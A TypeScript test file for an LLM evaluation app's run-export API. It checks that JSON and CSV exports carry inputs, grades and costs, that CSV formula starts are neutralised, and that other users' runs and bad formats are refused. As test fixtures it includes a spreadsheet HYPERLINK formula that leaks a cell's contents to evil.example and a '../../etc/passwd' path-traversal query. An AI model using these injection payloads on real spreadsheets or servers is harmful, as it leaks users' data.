import { beforeAll, afterAll, describe, expect, it } from "vitest";
import { GET as exportRoute } from "@/app/api/v1/runs/[id]/export/route";
import { runExportSchema } from "@/lib/api/responses";
import { readAccessConfig } from "@/lib/auth/access-config";
import { localUserId } from "@/lib/auth/local-user";
import { parseDatasetText } from "@/lib/formats/parse-dataset";
import { createMockProvider } from "@/lib/providers/mock-provider";
import { createProviderRegistry } from "@/lib/providers/registry";
import type { TextProvider } from "@/lib/providers/types";
import type { AppContext } from "@/lib/server/context";
import { gradeCell } from "@/lib/services/runs";
import { userB } from "../helpers/databases";
import { pgliteEngine, runToEnd } from "../helpers/engine";

// A model whose answers a spreadsheet would run as formulas, and a judge that grades everything
// 0.5 and costs a known amount; both are providers the engine calls as it calls any vendor.
const attacker: TextProvider = {
  id: "attacker",
  kind: "text",
  listModels: async () => [],
  async generate({ prompt }) {
    const text = prompt.includes("city") ? '=HYPERLINK("http://evil.example/?leak="&A1,"Click")' : "@SUM(1+1)";
    return { text, tokensIn: 10, tokensOut: 5, tokensEstimated: false, finishReason: "stop", warnings: [] };
  },
};
const judge: TextProvider = {
  id: "judge",
  kind: "text",
  listModels: async () => [],
  async generate() {
    return {
      text: "+ fine.<response>0.5</response>",
      tokensIn: 20,
      tokensOut: 3,
      tokensEstimated: false,
      finishReason: "stop",
      warnings: [],
    };
  },
};

const contextStore = globalThis as typeof globalThis & { __parallaxrContext?: Promise<AppContext> };

describe("GET /api/v1/runs/{id}/export", () => {
  const providers = createProviderRegistry([createMockProvider(), attacker, judge]);
  const engine = pgliteEngine(providers);
  let runId = "";

  beforeAll(async () => {
    contextStore.__parallaxrContext = Promise.resolve({
      db: engine.db,
      providers,
      access: readAccessConfig({}),
      worker: null,
    } as unknown as AppContext);
    const run = await runToEnd(
      { db: engine.db, providers },
      {
        userId: localUserId,
        input: {
          prompt: "Name a {{kind}} with {{n}} letters.",
          rows: [
            { kind: "city", n: "5" },
            { kind: "river, long", n: '-4 "or so"' },
          ],
          models: [
            { provider: "mock", model: "fast" },
            { provider: "attacker", model: "x" },
          ],
          grader: "Grade {{output}} in <response></response>.",
          graderModel: { provider: "judge", model: "strict" },
          cache: false,
        },
      },
    );
    runId = run.id;
    const cell = run.cells.find((item) => item.row === 1 && item.column === 1)!;
    await gradeCell({ db: engine.db }, { userId: localUserId, runId, cellId: cell.id, grade: 1 });
  });
  afterAll(() => {
    contextStore.__parallaxrContext = undefined;
  });

  const get = (id: string, query: string) =>
    exportRoute(new Request(`http://test/api/v1/runs/${id}/export${query}`), { params: Promise.resolve({ id }) });

  it("answers every cell as JSON, verbatim, with inputs, grades by hand and by the grader, and both costs", async () => {
    const response = await get(runId, "?format=json");
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("application/json; charset=utf-8");
    expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename="run-[0-9a-f]{8}\.json"/);
    expect(response.headers.get("x-content-type-options")).toBe("nosniff");
    const file = runExportSchema.parse(await response.json());
    expect(file.run).toMatchObject({ id: runId, status: "completed", rowCount: 2 });
    expect(file.cells).toHaveLength(4);
    const cell = (row: number, column: number) => file.cells.find((item) => item.row === row && item.column === column)!;
    expect(cell(1, 2)).toMatchObject({
      provider: "attacker",
      model: "x",
      input: { kind: "city", n: "5" },
      output: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      graderStatus: "ok",
      graderOutput: "+ fine.<response>0.5</response>",
      grade: 0.5,
      manualGrade: null,
      tokensIn: 10,
      tokensOut: 5,
    });
    expect(cell(2, 2)).toMatchObject({ input: { kind: "river, long", n: '-4 "or so"' }, output: "@SUM(1+1)", manualGrade: 1 });
    expect(cell(1, 1).output).toContain("MOCK RESPONSE");
  });

  it("answers the same cells as CSV, with formulas neutralised and every field read back as it was", async () => {
    const response = await get(runId, "?format=csv");
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename="run-[0-9a-f]{8}\.csv"/);
    const text = await response.text();
    expect(text.split("\r\n")[0]).toBe(
      "row,column,provider,model,trial,status,output,output_parsed,error,error_code,tokens_in,tokens_out,latency_ms,cost_usd," +
        "grader_cost_usd,grader_status,grader_output,grader_error,grade,manual_grade,input.kind,input.n",
    );
    const { rows } = parseDatasetText(text, "export.csv");
    expect(rows).toHaveLength(4);
    const row = (r: number, c: number) => rows.find((item) => item.row === String(r) && item.column === String(c))!;
    // Nothing a spreadsheet would run: each formula start is prefixed with a quote.
    expect(row(1, 2).output).toBe(`'=HYPERLINK("http://evil.example/?leak="&A1,"Click")`);
    expect(row(2, 2).output).toBe("'@SUM(1+1)");
    expect(row(1, 2).grader_output).toBe("'+ fine.<response>0.5</response>");
    expect(row(2, 2)["input.n"]).toBe(`'-4 "or so"`);
    expect(row(2, 2)["input.kind"]).toBe("river, long");
    expect(row(2, 2)).toMatchObject({ provider: "attacker", grade: "0.5", manual_grade: "1", tokens_in: "10" });
    expect(row(1, 1).output).toContain("MOCK RESPONSE");
    for (const record of rows) for (const value of Object.values(record)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("answers 404 for another user's run and 400 for a format it does not write", async () => {
    const other = await runToEnd(
      { db: engine.db, providers },
      { userId: userB, input: { prompt: "hi", models: [{ provider: "mock", model: "fast" }], cache: false } },
    );
    const stolen = await get(other.id, "?format=json");
    expect(stolen.status).toBe(404);
    expect(JSON.stringify(await stolen.json())).not.toContain("MOCK RESPONSE");

    expect((await get(runId, "?format=xlsx")).status).toBe(400);
    expect((await get(runId, "")).status).toBe(400);
    expect((await get(runId, "?format=csv&format=json")).status).toBe(400);
    expect((await get(runId, "?format=csv&path=../../etc/passwd")).status).toBe(400);
    expect((await get("not-a-uuid", "?format=csv")).status).toBe(400);
  });
});
